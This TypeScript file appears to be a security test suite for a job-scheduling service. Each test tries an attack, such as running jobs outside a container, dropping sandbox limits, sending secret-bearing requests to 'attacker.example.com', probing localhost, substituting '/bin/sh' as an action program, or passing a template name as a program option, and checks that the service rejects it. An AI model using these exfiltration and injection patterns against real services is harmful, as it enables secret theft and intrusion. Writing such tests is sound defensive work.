import { eventually } from '../../support/mocha/eventually.ts';
import type { Attack } from '../attack.ts';
import type { Reply, Target, Tenant } from '../target.ts';

/** Finds the first response that is not a refusal of what the request says. */
async function accepted(replies: readonly (() => Promise<Reply>)[], names: string): Promise<string | null> {
  for (const send of replies) {
    const { request, status, text } = await send();
    if (status !== 422) return `${request} responded with ${status}: ${text.slice(0, 300)}`;
    if (!text.includes(names)) return `${request} does not name ${names}: ${text.slice(0, 300)}`;
  }
  return null;
}

const restrictions = { private_network: true, read_only_root: true, memory_max: 50_000_000 };
const later = '2100-01-01T00:00:00Z';

const outOfContainer: Attack = {
  claim: 'No job of an App with an image runs outside a container, unless the App says so',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const app = await target.addShellApp('id', { oci_image: 'docker.io/library/alpine:3' });
    const fields = { executor: 'podman', executor_options: restrictions };
    const runtemplate_id = await target.addTemplate(tenant, app, fields);
    const { id } = await tenant.operator.save('job', { runtemplate_id, scheduled_at: later });
    const job = { runtemplate_id, executor: 'native' };
    const template = { id: runtemplate_id, executor: 'native', executor_options: {} };
    const moved = await accepted(
      [
        () => tenant.operator.post('/job/', job),
        () => tenant.operator.post('/job/', { id, executor: 'native' }),
        () => tenant.operator.post('/job/', { id, executor: 'http' }),
        () => tenant.manager.post('/runtemplate/', template),
      ],
      'docker, podman',
    );
    await tenant.operator.post('/job/', { id, state: 'cancelled' });
    return moved;
  },
};

const droppedRestrictions: Attack = {
  claim: 'What a template restricts holds for its jobs, whichever executor runs one of them',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const executors = ['docker', 'native', 'http'];
    const app = await target.addShellApp('id', { oci_image: 'docker.io/library/alpine:3', executors });
    const fields = { executor: 'docker', executor_options: restrictions };
    const runtemplate_id = await target.addTemplate(tenant, app, fields);
    const unenforced = await tenant.operator.post('/job/', { runtemplate_id, executor: 'http' });
    if (unenforced.status !== 422 || !unenforced.text.includes('private_network'))
      return `an executor without networks got ${unenforced.status}: ${unenforced.text}`;
    // Native jobs are restricted alike where the machine can, and do not start where it cannot.
    const memory_max = 1;
    const limited = await target.addTemplate(tenant, app, { executor: 'docker', executor_options: { memory_max } });
    const { state, stdout } = await target.run(tenant, limited, { executor: 'native' });
    return state === 'succeeded' || stdout.includes('uid=') ? `a job with a byte of memory ${state}: ${stdout}` : null;
  },
};

/** Adds the App of the handbook whose request goes to a variable host, with a secret header. */
function addRequestApp(target: Target, fields: object = {}): Promise<{ readonly id: number }> {
  return target.admin.save('app', {
    name: 'Request',
    executable: 'http',
    arguments: ['https://{HOST}/cron?shop={SHOP}', 'X-Api-Key: {KEY}'],
    environment: { HOST: {}, SHOP: {}, KEY: { type: 'secret' } },
    ...fields,
  });
}

const authorization = 'Bearer the secret of the manager';
const shop = { HOST: 'shop.example.com', SHOP: 'main' };

async function addRequestTemplate(target: Target, tenant: Tenant, fields: object): Promise<number> {
  const { id } = await addRequestApp(target);
  return target.addTemplate(tenant, id, { executor: 'http', environment: shop, ...fields });
}

const movedRequests: Attack = {
  claim: 'Values of one job or an event move no request that carries a secret to another host',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const { id: credential } = await tenant.manager.save('credential', {
      name: 'Key',
      company_id: tenant.id,
      values: { KEY: 'the secret of a credential' },
    });
    const carrying = [
      { executor_options: { authorization } },
      { environment: { ...shop, KEY: 'the secret of a template' } },
      { credentials: [credential] },
    ];
    for (const fields of carrying) {
      const runtemplate_id = await addRequestTemplate(target, tenant, fields);
      const { id } = await tenant.operator.save('job', { runtemplate_id, scheduled_at: later });
      const environment = { HOST: 'attacker.example.com' };
      const rule = { runtemplate_source_id: runtemplate_id, runtemplate_id, env_mapping: { HOST: 'job_id' } };
      const other = await addRequestTemplate(target, tenant, {});
      const moved = await accepted(
        [
          () => tenant.operator.post('/job/', { runtemplate_id, environment }),
          () => tenant.operator.post('/job/', { id, environment }),
          () => tenant.manager.post('/eventrule/', { ...rule, runtemplate_source_id: other }),
        ],
        'HOST',
      );
      await tenant.operator.post('/job/', { id, state: 'cancelled' });
      if (moved !== null) return moved;
    }
    return null;
  },
};

const movedTemplates: Attack = {
  claim: 'A template that is moved to another App or address keeps no secret',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const secrets = [
      [{ executor_options: { authorization } }, 'executor_options.authorization'],
      [{ environment: { ...shop, KEY: 'the secret of a template' } }, 'environment.KEY'],
    ] as const;
    for (const [fields, name] of secrets) {
      const id = await addRequestTemplate(target, tenant, fields);
      const { id: app_id } = await addRequestApp(target, { arguments: ['https://attacker.example.com/{KEY}'] });
      const shown = (await tenant.manager.get(`/runtemplate/${id}.json`)).json;
      const environment = { ...shown.environment, HOST: 'attacker.example.com' };
      const moved = await accepted(
        [
          () => tenant.manager.post('/runtemplate/', { id, app_id }),
          () => tenant.manager.post('/runtemplate/', { ...shown, app_id }),
          () => tenant.manager.post('/runtemplate/', { id, environment }),
        ],
        name,
      );
      if (moved !== null) return moved;
    }
    return null;
  },
};

const namedAddresses: Attack = {
  claim: 'The failure of a request names no address that a name has in the network of the service',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const { id: app } = await target.admin.save('app', { name: 'Request', executable: 'http://localhost/' });
    const runtemplate_id = await target.addTemplate(tenant, app, { executor: 'http' });
    const { state, reason } = await target.run(tenant, runtemplate_id);
    return state === 'failed' && !/127\.|::1/.test(reason) ? null : `a request to localhost ${state}: ${reason}`;
  },
};

const command = { action: 'command', program: '/usr/bin/logger', arguments: ['{template}'] };

const repeatedCommands: Attack = {
  claim: 'Only administrators add a program to a list of actions, even one that they have listed',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const id = await target.addTemplate(tenant, await target.addShellApp('true'));
    const { on_failure } = await target.admin.save('runtemplate', { id, on_failure: [command] });
    const [listed] = on_failure;
    for (const lists of [
      { on_failure: [listed, listed] },
      { on_failure: [listed, command] },
      { on_success: [listed] },
      { on_failure: [{ ...listed, program: '/bin/sh' }] },
    ]) {
      const { request, status, text } = await tenant.manager.post('/runtemplate/', { id, ...lists });
      if (status !== 403 && status !== 422)
        return `${request} with ${JSON.stringify(lists)} responded with ${status}: ${text}`;
    }
    const kept = await tenant.manager.post('/runtemplate/', { id, on_failure: [listed], note: 'kept' });
    return kept.status === 200 ? null : `the action that was there got ${kept.status}: ${kept.text}`;
  },
};

const optionsAsNames: Attack = {
  claim: 'What a template is named does not become an option of a program in a list of actions',
  attempt: async (target) => {
    const tenant = await target.addTenant();
    const failing = await target.addShellApp('exit 1');
    const id = await target.addTemplate(tenant, failing, { name: '--version' });
    const printing = { action: 'command', program: '/usr/bin/printf', arguments: ['%s', '{template}'] };
    await target.admin.save('runtemplate', { id, on_failure: [printing] });
    await target.run(tenant, id);
    const { response } = await eventually('the program has run', async () => {
      const { json } = await target.admin.get(`/deliveries.json?runtemplate_id=${id}`);
      return json[0]?.state === 'delivered' && (await target.admin.get(`/delivery/${json[0].id}.json`)).json;
    });
    return response === ' --version' ? null : `the program was given ${JSON.stringify(response)}`;
  },
};

export const executorAttacks = [
  outOfContainer,
  droppedRestrictions,
  movedRequests,
  movedTemplates,
  namedAddresses,
  repeatedCommands,
  optionsAsNames,
];
